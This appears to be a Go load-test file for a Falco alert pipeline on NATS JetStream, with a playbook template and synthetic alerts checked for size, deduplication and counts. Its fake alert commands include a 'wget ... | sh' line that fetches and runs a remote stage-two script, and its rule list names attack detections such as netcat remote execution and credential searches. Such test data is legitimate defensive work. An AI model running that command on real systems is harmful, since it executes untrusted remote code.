//go:build unix

package test

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"
	"github.com/stretchr/testify/require"
)

// idle is the window of the tests' playbook: an incident closes when so long no
// alert came. It must be longer than any pause between a load's alerts.
const idle = 4 * time.Second

// loadRules are the rules of the alerts that the tests publish, all of them
// Falco's own.
var loadRules = []string{
	"Terminal shell in container", "Read sensitive file untrusted", "Contact K8S API Server From Container",
	"Redirect STDOUT/STDIN to Network Connection in Container", "Drop and execute new binary in container",
	"Search Private Keys or Passwords", "Clear Log Activities", "Run shell untrusted", "Packet socket created in container",
	"Detect release_agent File Container Escapes", "Remove Bulk Data from Disk", "Create Symlink Over Sensitive Files",
	"Find AWS Credentials", "System user interactive", "PTRACE attached to process", "Debugfs Launched in Privileged Container",
	"Linux Kernel Module Injection Detected", "Fileless execution via memfd_create", "Launch Privileged Container",
	"Netcat Remote Code Execution in Container", "Directory traversal monitored file read", "Container Drift Detected (open+create)",
}

const playbook = `
playbooks:
  - id: load-test
    version: 1
    title: Alert of a load test
    match: {rules: [%s]}
    identity: {version: 1, idle: %s}
    category: test
    meaning: "An alert of a load test: {proc.cmdline}."
    mitigations:
      - id: look-at-the-pod
        title: Look at the pod
        kind: investigate
        horizon: now
        description: See what the pod does.
        commands:
          - where: kubernetes
            run: [kubectl, -n, "{k8s.ns.name}", get, pod, "{k8s.pod.name}", -o, yaml]
            explain: Prints the pod.
        risk: read-only
        needs: Read access to pods.
        blast: Nobody.
    next: Look at the pod.
`

// writePlaybook writes the playbook for loadRules into a folder of its own.
func writePlaybook(t *testing.T) string {
	t.Helper()
	var names []string
	for _, r := range loadRules {
		names = append(names, fmt.Sprintf("%q", r))
	}
	return writeFile(t, "load.yaml", fmt.Sprintf(playbook, strings.Join(names, ", "), idle))
}

// writeFile writes one file into a folder of its own, and returns the folder.
func writeFile(t *testing.T, name, text string) string {
	t.Helper()
	dir := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600))
	return dir
}

// load is an endless row of alerts of so many workloads, each of which is one
// fingerprint. Half of the alerts are of a few noisy workloads, as in real
// clusters. Every fortieth comes twice, as through two falcosidekicks.
type load struct{ fingerprints int }

const (
	noisy     = 5
	copyEvery = 40
)

// workload numbers the workload of the i-th alert.
func (l load) workload(i int) int {
	if i%2 == 0 {
		return i / 2 % noisy
	}
	return noisy + i/2%(l.fingerprints-noisy)
}

// copied says whether the i-th alert comes twice.
func copied(i int) bool { return i%copyEvery == copyEvery-1 }

func workloadName(w int) string { return fmt.Sprintf("svc-%04d", w) }

// counts are what must become of the first n alerts: how many events each
// workload has, how many copies came, and how many messages are stored.
func (l load) counts(n int) (events map[string]int, copies, stored int) {
	events = map[string]int{}
	for i := range n {
		events[workloadName(l.workload(i))]++
		if copied(i) {
			copies++
		}
	}
	return events, copies, n + copies
}

// loadBegan is when the event of the first alert of a load happened.
var loadBegan = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)

const loadAlert = `{"uuid":"%08x-0000-4000-8000-%012x","output":"%s: Warning %s | evt_type=execve user=root user_uid=0 process=sh proc_exepath=/bin/busybox parent=containerd-shim command=%s terminal=0 container_id=%012x container_image_repository=registry.example/shop container_image_tag=v1.2.3 container_name=app k8s_ns_name=shop k8s_pod_name=%s","priority":"Warning","rule":"%s","time":"%s","source":"syscall","output_fields":{"container.id":"%012x","container.image.repository":"registry.example/shop/%s","container.image.tag":"v1.2.3","container.name":"app","evt.time":%d,"evt.type":"execve","fd.name":null,"k8s.ns.name":"shop","k8s.pod.name":"%s","proc.cmdline":"%s","proc.cwd":"/srv","proc.exepath":"/bin/busybox","proc.name":"sh","proc.pname":"containerd-shim","proc.tty":0,"user.loginuid":-1,"user.name":"root","user.uid":0},"hostname":"node-%02d","tags":["T1059","container","maturity_stable","mitre_execution"]}`

// alert is the i-th alert, as falcosidekick publishes it: about 1,250 bytes, 18
// output fields. The sender takes part in the uuid only.
func (l load) alert(i, sender int) (subject string, data []byte) {
	w := l.workload(i)
	rule, name, at := loadRules[w%len(loadRules)], workloadName(w), loadBegan.Add(time.Duration(i)*time.Millisecond)
	pod := fmt.Sprintf("%s-7c9d8f6b5c-%s", name, []string{"x2k4p", "v8bqz", "mm5tw"}[i%3])
	command := fmt.Sprintf("sh -c apt-get install --yes --no-install-recommends tool-%08d", i)
	if i%10 == 9 {
		command = fmt.Sprintf("sh -c wget -qO- http://203.0.113.7/stage-two.sh?host=%08d | sh", i)
	}
	when := at.Format(time.RFC3339Nano)
	data = fmt.Appendf(nil, loadAlert, sender, i, when, rule, command, w, pod, rule, when, w, name, at.UnixNano(), pod, command, i%7)
	return "falco.warning." + slug(rule), data
}

// slug does what falcosidekick does to a rule's name.
func slug(rule string) string {
	words := strings.FieldsFunc(strings.ToLower(rule), func(r rune) bool { return (r < 'a' || r > 'z') && (r < '0' || r > '9') })
	return strings.Join(words, "_")
}

// inFlight bounds how many messages wait for their acknowledgement.
const inFlight = 2000

// publisher stores alerts and makes sure that each is stored exactly once, also
// when the server goes away meanwhile.
type publisher struct {
	t    *testing.T
	js   jetstream.JetStream
	load load
}

// sending is a message and the server's answer to come.
type sending struct {
	msg *nats.Msg
	ack jetstream.PubAckFuture
}

// publish stores the alerts from up to to, and returns when all are acknowledged.
func (p publisher) publish(from, to int) {
	var msgs []*nats.Msg
	for i := from; i < to; i++ {
		msgs = append(msgs, p.message(i, 0))
		if copied(i) {
			msgs = append(msgs, p.message(i, 1))
		}
	}
	until(p.t, time.Minute, "acknowledgements", func() bool {
		msgs = p.send(msgs)
		return len(msgs) == 0
	})
}

func (p publisher) message(i, sender int) *nats.Msg {
	subject, data := p.load.alert(i, sender)
	m := nats.NewMsg(subject)
	m.Data = data
	m.Header.Set(jetstream.MsgIDHeader, fmt.Sprintf("%d-%d", i, sender))
	return m
}

// send publishes the messages once and returns those without acknowledgement.
func (p publisher) send(msgs []*nats.Msg) (failed []*nats.Msg) {
	waiting, done := make(chan sending, inFlight), make(chan struct{})
	go func() {
		defer close(done)
		for s := range waiting {
			select {
			case <-s.ack.Ok():
			case err := <-s.ack.Err():
				if err != nil {
					failed = append(failed, s.msg)
				}
			}
		}
	}()
	var unsent []*nats.Msg
	for _, m := range msgs {
		ack, err := p.js.PublishMsgAsync(m, jetstream.WithStallWait(10*time.Second))
		if err != nil {
			unsent = append(unsent, m)
			continue
		}
		waiting <- sending{m, ack}
	}
	close(waiting)
	<-done
	return append(failed, unsent...)
}

// feed publishes alerts at a steady pace until the returned func is called,
// which returns how many there were.
func (p publisher) feed(perSecond int) (stop func() int) {
	const beat = 50 * time.Millisecond
	quit, sent := make(chan struct{}), make(chan int, 1)
	go func() {
		n, step := 0, perSecond*int(beat/time.Millisecond)/1000
		defer func() { sent <- n }()
		tick := time.NewTicker(beat)
		defer tick.Stop()
		for {
			select {
			case <-quit:
				return
			case <-tick.C:
				p.publish(n, n+step)
				n += step
			}
		}
	}()
	return func() int { close(quit); return <-sent }
}

func TestTheLoadIsRealistic(t *testing.T) {
	l := load{fingerprints: 1000}
	_, data := l.alert(54321, 1)
	require.InDelta(t, 1250, len(data), 50)
	var alert struct {
		Fields map[string]any `json:"output_fields"`
	}
	require.NoError(t, json.Unmarshal(data, &alert))
	require.Len(t, alert.Fields, 18)
	events, copies, stored := l.counts(20_000)
	require.Len(t, events, 1000)
	require.Equal(t, 20_000/copyEvery, copies)
	require.Equal(t, 20_000+copies, stored)
}
